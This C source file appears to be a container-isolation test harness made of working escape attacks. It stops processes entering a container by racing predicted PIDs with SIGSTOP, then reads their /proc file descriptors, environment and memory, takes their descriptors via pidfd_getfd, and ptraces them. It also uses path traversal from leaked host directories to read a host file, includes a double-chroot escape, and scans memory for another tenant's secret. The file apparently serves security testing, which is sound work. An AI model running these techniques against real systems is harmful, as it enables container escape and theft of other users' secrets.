// What the attacks run inside of containers; static, for every image. Each line of output begins with what was achieved.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char UP[] = "../../../../../../../../../../../../../../../..";

// Says so when the file of the host can be had from an open directory.
static int follow(int directory, const char *from, const char *marker) {
    char path[4096], text[64] = {0};
    snprintf(path, sizeof path, "%s%s", UP, marker);
    int file = openat(directory, path, O_RDONLY | O_CLOEXEC);
    if (file < 0) return 0;
    if (read(file, text, sizeof text - 1) < 0) text[0] = 0;
    close(file);
    printf("ESCAPED through %s: %s\n", from, text);
    return 1;
}

// Whether a process has this text in its memory.
static void search_memory(int pid, const char *text) {
    static char part[1 << 20];
    char path[64], line[512], mode[8];
    unsigned long from, to;
    size_t length = strlen(text);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDONLY | O_CLOEXEC);
    while (maps && memory >= 0 && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) == 3 && mode[1] == 'w')
            for (; from < to; from += sizeof part - length) {
                size_t most = to - from < sizeof part ? to - from : sizeof part;
                ssize_t got = pread(memory, part, most, from);
                if (got <= 0) break;
                if (memmem(part, got, text, length)) printf("ESCAPED: memory of %d has the other's secret: %s\n", pid, line);
                if (to - from <= sizeof part) break;
            }
    if (maps) fclose(maps);
    if (memory >= 0) close(memory);
}

// Tries all that may lead from a process to what it has, and tells `out`. Gives how much could be looked at.
static int look_into(int pid, const char *marker, FILE *out) {
    static const char *links[] = {"root", "cwd", "exe"};
    static const char *files[] = {"environ", "maps", "mem", "auxv", "syscall", "stack"};
    char path[300], target[512];
    int found = 0;
    for (int at = 0; at < 67; at++) {
        if (at < 64) snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, at);
        else snprintf(path, sizeof path, "/proc/%d/%s", pid, links[at - 64]);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        found++;
        fprintf(out, "LOOKED at %s -> %s\n", path, target);
        int directory = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (directory >= 0) {
            follow(directory, target, marker);
            close(directory);
        }
    }
    for (int at = 0; at < 6; at++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[at]);
        int file = open(path, O_RDONLY | O_CLOEXEC);
        if (file < 0) continue;
        // Some are opened by everybody and empty for who may not look.
        if (read(file, target, sizeof target) > 0) { found++; fprintf(out, "LOOKED at %s\n", path); }
        close(file);
    }
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; process >= 0 && fd < 64; fd++) {
        int taken = syscall(SYS_pidfd_getfd, process, fd, 0);
        if (taken < 0) continue;
        found++;
        fprintf(out, "LOOKED: took descriptor %d of %d\n", fd, pid);
        follow(taken, "a descriptor that was taken", marker);
        close(taken);
    }
    if (process >= 0) close(process);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        found++;
        fprintf(out, "LOOKED: traces %d\n", pid);
        // It is let go only where it has stopped for its tracer, and would else be held for as long as that runs.
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) waitpid(pid, 0, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    return found;
}

// Reads a short file as text. Gives its length; 0 where there is nothing to read.
static ssize_t read_text(const char *path, char *text, size_t size) {
    text[0] = 0;
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0) return 0;
    ssize_t length = read(file, text, size - 1);
    close(file);
    if (length < 0) length = 0;
    text[length] = 0;
    return length;
}

// Whether a process executes one of the programs that enter; everybody may read its name.
static int has_arrived(int pid, char *name, size_t size) {
    static const char *programs[] = {"true", "sh", "sleep", "busybox"};
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    ssize_t length = read_text(path, name, size);
    if (!length) return 1;
    name[length - 1] = 0;
    for (int at = 0; at < 4; at++)
        if (!strcmp(name, programs[at])) return 1;
    return 0;
}

// How many numbers it looks ahead.
enum { AHEAD = 64 };

// Numbers are given in order: the next processes to enter have these, and some come and go unseen.
static int stop_next(int from) {
    for (int pid = from; pid < from + AHEAD; pid++)
        if (kill(pid, SIGSTOP) == 0) return pid;
    return 0;
}

// The number that a process of this namespace was given last.
static int last_number(void) {
    char text[128];
    read_text("/proc/loadavg", text, sizeof text);
    char *last = strrchr(text, ' ');
    return last ? atoi(last) : 0;
}

// Where to look from: more may have come and gone unseen than it looks ahead, while it was not running.
static int skip_unseen(int next) {
    int last = last_number();
    return last >= next + AHEAD ? last - AHEAD / 2 : next;
}

// Seconds.
static double read_clock(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec + now.tv_nsec / 1e9;
}

// Stops what enters, looks into it while it is not yet its program, and lets it go on, in steps.
static void catch_entering(int seconds, const char *secret, const char *marker) {
    time_t end = time(0) + seconds;
    int next = getpid() + 1;
    long caught = 0;
    puts("READY");
    while (time(0) < end) {
        int pid = stop_next(next);
        if (!pid) {
            next = skip_unseen(next);
            continue;
        }
        char name[32];
        int seen = 0;
        double began = read_clock();
        // A hook that is held for longer is given up, and the container is ended for it.
        for (int step = 0; step < 300 && read_clock() - began < 0.5; step++) {
            if (has_arrived(pid, name, sizeof name)) break;
            char *said = 0;
            size_t length = 0;
            FILE *out = open_memstream(&said, &length);
            int found = look_into(pid, marker, out);
            fclose(out);
            char before[32];
            strcpy(before, name);
            // It may have arrived meanwhile, and then all may look: a signal does not stop at once.
            if (has_arrived(pid, name, sizeof name)) { free(said); break; }
            if (found) { seen++; fputs(said, stdout); if (*secret) search_memory(pid, secret); }
            free(said);
            if (!step) { caught++; printf("CAUGHT %d as %s\n", pid, before); }
            kill(pid, SIGCONT);
            for (volatile int spin = 0; spin < (step % 40) * 30; spin++) {}
            // On a busy machine so little time is none at all.
            if (step % 8 == 7) usleep(step * 20);
            if (kill(pid, SIGSTOP)) break;
            if (seen > 3) break;
        }
        kill(pid, SIGCONT);
        next = pid + 1;
    }
    printf("OVER, caught %ld\n", caught);
}

// Waits until a process that was sent SIGSTOP has stopped, for a signal does not stop at once; 0 once it has ended.
static int has_stopped(int pid) {
    char path[64], text[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    for (;;) {
        if (!read_text(path, text, sizeof text)) return 0;
        // The state stands behind the name, which may hold anything.
        char *state = strrchr(text, ')');
        if (!state || strchr("ZX", state[2])) return 0;
        if (strchr("Tt", state[2])) return 1;
    }
}

// Stops what enters and is not yet its program, and never lets it go on.
static void stop_entering(int seconds) {
    time_t end = time(0) + seconds;
    int next = getpid() + 1;
    puts("READY");
    while (time(0) < end) {
        int pid = stop_next(next);
        if (!pid) {
            next = skip_unseen(next);
            continue;
        }
        char name[32];
        next = pid + 1;
        if (!has_stopped(pid)) continue;
        if (has_arrived(pid, name, sizeof name)) kill(pid, SIGCONT);
        else printf("STOPPED %d as %s\n", pid, name);
    }
}

// How not to enter a container: with a directory of the host open, and to be looked at. What catch_entering has to see.
static void enter_badly(int target) {
    int process = syscall(SYS_pidfd_open, target, 0);
    open("/", O_RDONLY | O_DIRECTORY);
    // An ordinary user first needs the privileges of the namespace's owner.
    if (geteuid() != 0 && setns(process, CLONE_NEWUSER)) { perror("user namespace"); exit(1); }
    if (setns(process, CLONE_NEWNS | CLONE_NEWPID)) { perror("namespaces"); exit(1); }
    int child = fork();
    if (child) { waitpid(child, 0, 0); return; }
    // Version 3 of capset(2), this process, no capability at all.
    unsigned header[2] = {0x20080522, 0}, none[6] = {0};
    syscall(SYS_capset, header, none);
    prctl(PR_SET_DUMPABLE, 1);
    sleep(2);
    _exit(0);
}

// Out of a chroot by a second one: what a root directory is that is not its mount namespace's.
static void leave_root(const char *marker) {
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp", 0755);
    mkdir("/tmp/inner", 0755);
    if (chroot("/tmp/inner")) { perror("chroot"); return; }
    if (!follow(outside, "a second chroot", marker)) puts("STAYED");
}

int main(int count, char **words) {
    setvbuf(stdout, 0, _IOLBF, 0);
    if (count < 3) return 2;
    const char *what = words[1], *last = words[count - 1];
    if (!strcmp(what, "catch")) catch_entering(atoi(words[2]), count > 4 ? words[3] : "", last);
    else if (!strcmp(what, "stop")) stop_entering(atoi(words[2]));
    else if (!strcmp(what, "enter-badly")) enter_badly(atoi(words[2]));
    else if (!strcmp(what, "leave-root")) leave_root(last);
    else return 2;
    return 0;
}
